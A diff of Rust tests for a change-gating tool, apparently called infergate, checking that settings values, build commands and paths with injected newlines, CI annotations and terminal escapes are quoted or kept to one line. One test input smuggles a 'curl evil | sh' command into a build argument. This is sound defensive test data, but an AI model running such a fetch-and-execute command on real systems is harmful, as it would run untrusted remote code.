@@ -5,7 +5,7 @@ use std::fs;
 use std::os::unix::fs::PermissionsExt;
 
 use crate::revisions::{commit, empty_repository, gate, repository};
-use crate::sandbox::{Sandbox, stderr};
+use crate::sandbox::{QUICK, Sandbox, stderr};
 
 /// In quotes of a shell's `printf`, and of Rust.
 const BAD: &str = r"::error::one\n  ::add-mask::two\r::error::three\n##[error]four\n\x1b[2J\x1b]0;five\x07\n";
@@ -78,4 +78,57 @@ fn cargos() {
     let said = stderr(&gate(&sandbox, "HEAD", &[]).code(2));
     assert!(said.contains("does not build"), "{said}");
     assert_obeys_nothing(&said);
+}
+
+/// Whoever writes the settings may be the one whose change is gated.
+#[test]
+fn a_command_of_the_settings_is_words_of_a_shell_or_not_shown() {
+    for (build, shown) in [
+        (r"['sh', '-c', 'exit 3', 'x; curl evil | sh']", "base: sh -c 'exit 3' 'x; curl evil | sh'\n"),
+        (r#"['sh', '-c', 'exit 3', "one\n::error::two\u001b[2J"]"#, "base: worker.build\n"),
+    ] {
+        let sandbox = empty_repository();
+        sandbox.write("infergate.toml", &format!("[worker]\ncommand = ['./x']\nbuild = {build}\n"));
+        commit(&sandbox, "notes.txt", "", "base");
+        let cache = Sandbox::new();
+        let folder = format!("--base-folder={}", cache.path("base").display());
+        let said = stderr(&sandbox.run(&["gate", "--against=HEAD", &folder]).code(2));
+        assert!(said.contains(shown) && !said.contains("::error::"), "{said}");
+    }
+}
+
+/// What head changes of the settings is said at once, and in head's words.
+#[test]
+fn a_value_of_the_settings_is_one_line() {
+    let sandbox = repository();
+    sandbox.write("infergate.toml", "model = \"m\\nverdict: pass (exit 0)\\u001b[2J\"\n");
+    let said = stderr(&gate(&sandbox, "HEAD", &[]).success());
+    assert!(said.contains("head changes the gate: model") && said.contains("\\u{1b}[2J"), "{said}");
+    assert!(!said.lines().any(|line| line.starts_with("verdict:")), "{said}");
+}
+
+/// Nor is a folder's name a line.
+#[test]
+fn a_path_is_one_line() {
+    let sandbox = Sandbox::new();
+    let out = "--out=it\nverdict: pass (exit 0)\u{1b}[2J/receipt.json";
+    let said = stderr(&sandbox.measure("bench", "fake", &[out]).success());
+    assert!(said.contains("receipt: it verdict: pass (exit 0)\\u{1b}[2J/receipt.json\n"), "{said}");
+}
+
+/// A macro prints where cargo writes its messages.
+#[test]
+fn what_stands_among_cargos_messages_is_passed_over() {
+    let sandbox = Sandbox::new();
+    let message = format!(
+        r#"{{"reason":"compiler-artifact","target":{{"name":"inference","kind":["bench"]}},"executable":"{}"}}"#,
+        crate::support::example("fake_engine").display()
+    );
+    let line = r"printf '\377no text\n'; head -c 3000000 /dev/zero | tr '\0' x; echo";
+    let text = format!("#!/bin/sh\n[ \"$1\" = bench ] || exit 0\n{line}\necho '{message}'\n");
+    let cargo = sandbox.write("cargo.sh", &text);
+    fs::set_permissions(&cargo, fs::Permissions::from_mode(0o755)).expect("its own file");
+    let mut bench = sandbox.process(&["bench", "--model=fake"]);
+    bench.args(QUICK).env("CARGO", cargo);
+    assert_cmd::Command::from_std(bench).assert().success();
 }
